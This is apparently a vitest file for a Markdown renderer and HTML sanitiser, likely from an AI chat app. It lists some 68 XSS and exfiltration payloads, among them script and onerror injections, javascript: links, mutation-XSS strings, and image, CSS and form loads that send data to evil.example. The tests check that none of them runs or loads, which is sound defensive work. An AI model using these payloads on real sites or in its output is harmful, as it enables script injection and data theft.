// @vitest-environment jsdom
import { describe, expect, test } from "vitest";
import { BlockReader, Markdown } from "../src/markdown";

const markdown = new Markdown(window as never);
const ALLOWED = new Set(
  "P BR HR H1 H2 H3 H4 H5 H6 STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI A TABLE THEAD TBODY TR TH TD".split(" "),
);

/** Everything an element has must be on the list: tags, attributes, and what the attributes say. */
function problems(fragment: DocumentFragment): string[] {
  const found: string[] = [];
  for (const element of fragment.querySelectorAll("*")) {
    if (!ALLOWED.has(element.nodeName) || element.namespaceURI !== "http://www.w3.org/1999/xhtml") {
      found.push(element.outerHTML);
    }
    for (const { name, value } of element.attributes) {
      const fine =
        (element.nodeName === "A" && name === "href" && /^https?:\/\//i.test(value)) ||
        (element.nodeName === "A" && ["target", "rel"].includes(name)) ||
        (element.nodeName === "CODE" && name === "class" && /^language-[a-z0-9+#.-]+$/.test(value)) ||
        (element.nodeName === "OL" && name === "start") ||
        (/^T[DH]$/.test(element.nodeName) && name === "align");
      if (!fine) found.push(`${element.nodeName} ${name}=${value}`);
    }
  }
  return found;
}

// bytedance/UI-TARS-desktop#1938, kirodotdev/KiroCrew#969, eclipse-theia/theia#17392, epam/ai-dial-chat#7109, and
// the usual ways around sanitisers. Each is given as Markdown, where raw HTML is text, and straight to the sanitiser.
const HOSTILE = [
  "<script>alert(1)</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/?d=secret>",
  "![](https://evil.example/?d=secret)",
  "![alt <b onload=x>](https://evil.example/a.png \"t' onerror='x\")",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "![x][r]\n\n[r]: https://evil.example/ref.png",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><image href='https://evil.example/i.png'/></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](blob:null/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/x)",
  "[x](https://e.example/\"onmouseover=alert(1)//)",
  "<javascript:alert(1)>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href=https://e.example ping=https://evil.example/p>x</a>",
  "<p style=\"background:url(https://evil.example/x)\">x</p>",
  "<style>@import url(https://evil.example/x.css);</style>",
  "<style>@font-face{font-family:a;src:url(https://evil.example/f)}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=preconnect href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "<form action=https://evil.example><input name=a><button>go</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<isindex action=javascript:alert(1)>",
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=https://evil.example></object>",
  "<embed src=https://evil.example>",
  "<video poster=https://evil.example/p><source src=https://evil.example/v></video>",
  "<audio src=https://evil.example/a autoplay>",
  "<picture><source srcset=https://evil.example/s><img></picture>",
  "<table background=https://evil.example/t><tr><td background=https://evil.example/t>x</table>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
  "<p id=app class=composer name=getElementById data-x=1 aria-label=x>clobber</p>",
  "<a id=document name=cookie href=https://e.example>clobber</a>",
  "<x-app onclick=alert(1) is=y>x</x-app>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href=https://evil.example?><img src=x onerror=alert(1)>",
  "```\"><img/src/onerror=alert(1)>\ncode\n```",
  "```x class=y onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
  "`</code><img src=x onerror=alert(1)>`",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "\u0000<scr\u0000ipt>alert(1)</script>",
  "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
];

describe("hostile text is shown, runs nothing and loads nothing", () => {
  test("there are enough of them", () => expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(60));

  test.each(HOSTILE)("as Markdown: %s", (text) => {
    const fragment = markdown.render(text);
    expect(problems(fragment)).toEqual([]);
  });

  test.each(HOSTILE)("straight to the sanitiser: %s", (text) => {
    expect(problems(markdown.clean(text))).toEqual([]);
  });

  test("nothing that is cut off in mid-stream is any better", () => {
    for (const text of HOSTILE) {
      for (let end = 1; end < text.length; end += 5) expect(problems(markdown.render(text.slice(0, end)))).toEqual([]);
    }
    // Some 800 documents through jsdom: seconds on a busy machine.
  }, 60_000);

  test("cleaned once is clean: writing it out and reading it again changes nothing", () => {
    for (const text of HOSTILE) {
      const div = document.createElement("div");
      div.append(markdown.clean(text));
      const once = div.innerHTML;
      div.innerHTML = once;
      expect(div.innerHTML).toBe(once);
    }
  });
});

const shown = (text: string) => {
  const div = document.createElement("div");
  div.append(markdown.render(text));
  return div.innerHTML.trim();
};

describe("what is shown", () => {
  test.each([
    ["**a** _b_ ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>"],
    ["<b>x</b> & y", "<p>&lt;b&gt;x&lt;/b&gt; &amp; y</p>"],
    ["<div>\nblock\n</div>", "&lt;div&gt;\nblock\n&lt;/div&gt;"],
    ["![a cat](https://e.example/c.png)", "<p>[Picture not loaded: a cat (e.example)]</p>"],
    ["![](data:image/png;base64,AA)", "<p>[Picture not loaded (data)]</p>"],
    ["[x](javascript:a) y", "<p>x y</p>"],
    [
      "[x](https://e.example/a?b&c)",
      '<p><a href="https://e.example/a?b&amp;c" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
    ],
    ["```TypeScript x\na < b\n```", '<pre><code class="language-typescript">a &lt; b\n</code></pre>'],
    ["3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'],
    ["- [x] a\n- [ ] b", "<ul>\n<li>☑ a</li>\n<li>☐ b</li>\n</ul>"],
  ])("%s", (text, html) => expect(shown(text)).toBe(html));
});

describe("blocks of a growing text", () => {
  const text =
    "# Title\n\nFirst *paragraph*.\n\n- one\n- two\n\n1. a\n\n2. b\n\n   c\n\n```js\nlet a = 1;\n\nlet b;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nLast 日本🦋.\n\nEnd";

  test("end as the whole text does, wherever it was cut", () => {
    const whole = new BlockReader().read(text).blocks.map((block) => markdown.html(block.token));
    for (const step of [1, 2, 3, 7]) {
      const reader = new BlockReader();
      for (let end = step; end < text.length; end += step) reader.read(text.slice(0, end));
      expect(reader.read(text).blocks.map((block) => markdown.html(block.token))).toEqual(whole);
    }
  });

  test("what is settled is not looked at again, and a different text starts anew", () => {
    const reader = new BlockReader();
    const first = reader.read(text);
    expect(first.settled).toBe(0);
    const more = reader.read(`${text} and more`);
    expect(more.settled).toBeGreaterThan(5);
    for (let i = 0; i < more.settled; i++) expect(more.blocks[i]).toBe(first.blocks[i]);
    expect(reader.read("other").blocks.map((block) => block.token.raw)).toEqual(["other"]);
  });
});
